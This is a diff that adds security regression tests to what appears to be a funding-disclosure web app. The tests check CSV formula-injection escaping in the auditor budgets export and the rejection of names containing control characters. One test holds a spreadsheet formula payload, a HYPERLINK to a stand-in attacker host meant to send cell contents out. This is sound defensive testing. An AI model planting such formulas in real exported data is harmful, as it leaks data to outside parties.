@@ -119,3 +119,26 @@ def test_the_disclosure_page_is_public_and_shows_the_ledger_and_batches(world: W
     english = world.client.get(f"/disclosure/{pid}?lang=en")
     assert "Where the money is" in english.text
     assert world.client.get("/disclosure/prg_nothing").status_code == 404
+
+
+def test_a_formula_in_a_program_name_reaches_the_budgets_export_as_text(world: World) -> None:
+    """P1: ``=HYPERLINK(…)`` arrived in the auditor's spreadsheet as a live formula."""
+    formula = '=HYPERLINK("http://evil.example/?d="&A2,"点此")'
+    pid = world.program(name=formula)["id"]
+    staff_session(world, "auditor")
+    budgets = world.client.get("/auditor/export/budgets.csv")
+    rows = list(csv.DictReader(io.StringIO(budgets.text.lstrip("\ufeff"))))
+    mine = next(r for r in rows if r["program_id"] == pid)
+    assert mine["name"] == "'" + formula
+
+
+def test_names_with_control_characters_are_refused_at_every_entry(world: World) -> None:
+    for path, body in (
+        ("/programs", {"name": "春季\t=1+1", "timezone": "Asia/Shanghai",
+                       "starts_at": "2026-11-25T00:00:00+08:00",
+                       "ends_at": "2027-03-01T00:00:00+08:00"}),
+        ("/funders", {"name": "财政\r\n局", "kind": "department"}),
+    ):
+        response = world.post("operator", path, body)
+        assert response.status_code == 422, (path, response.text)
+        assert response.json()["code"] == "INVALID_TEXT_NAME"
